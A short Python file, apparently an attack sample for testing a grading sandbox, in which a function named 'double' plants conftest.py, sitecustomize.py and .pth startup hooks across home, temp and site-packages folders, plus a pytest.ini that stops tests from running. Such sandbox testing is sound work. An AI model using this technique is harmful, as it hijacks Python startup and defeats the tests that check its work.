"""Leaves conftest.py, sitecustomize.py, .pth and pytest.ini where they may be read."""

import contextlib
import os
import site

TEXT = f"open({LAB['drop']!r}, 'w').write('poison')\n"


def double(x):
    places = [".", os.environ["HOME"], LAB["course"], f"{LAB['course']}/tests", LAB["out"], "/tmp"]
    places += [LAB["home"], site.getusersitepackages(), *site.getsitepackages()]
    for folder in places:
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True)
        for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "zz_attack.pth"):
            with contextlib.suppress(OSError):
                open(f"{folder}/{name}", "x").write(TEXT)
        with contextlib.suppress(OSError):
            open(f"{folder}/pytest.ini", "x").write("[pytest]\naddopts = --collect-only\n")
    return 0
